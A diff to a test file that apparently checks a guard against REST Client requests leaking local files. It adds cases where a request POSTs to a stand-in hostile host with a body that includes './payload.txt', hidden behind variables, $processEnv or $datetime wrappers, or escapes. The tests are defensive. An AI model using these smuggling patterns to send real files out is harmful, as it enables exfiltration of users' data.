@@ -62,6 +62,14 @@ describe('threats: references that REST Client resolves', function () {
   it('row 54: a file that is sent with its variables replaced may hold any reference, and all are withheld', () => {
     keptFromLeaving(3, http(`POST ${EVIL}`, '', '<@ ./payload.txt'), other(TENANT, HEADER));
     keptFromLeaving(5, http('@a = @', '', `POST ${EVIL}`, '', '<{{a}} ./payload.txt'), other(TENANT, HEADER));
+    for (const line of [
+      '{{$processEnv NOPE}}<@ ./payload.txt',
+      "{{$datetime '[<@ ./payload.txt]'}}",
+      '{{$processEnv NOPE}}<{{t}}@ x',
+    ])
+      withheldBy(3, http(`POST ${EVIL}`, '', line), other(TENANT, HEADER));
+    for (const value of ['\\<@ ./payload.txt', '{{$processEnv NOPE}}<@ ./payload.txt', "{{$datetime '[<@ ./payload.txt]'}}"])
+      keptFromLeaving(1, http(`@a = ${value}`, '', `POST ${EVIL}`, '', '{{a}}'), other(TENANT, HEADER));
     keptFromLeaving(1, http('@a = 1\\n<@ ./payload.txt', '', `POST ${EVIL}`, '', '{{a}}'), other(TENANT, HEADER));
   });
 
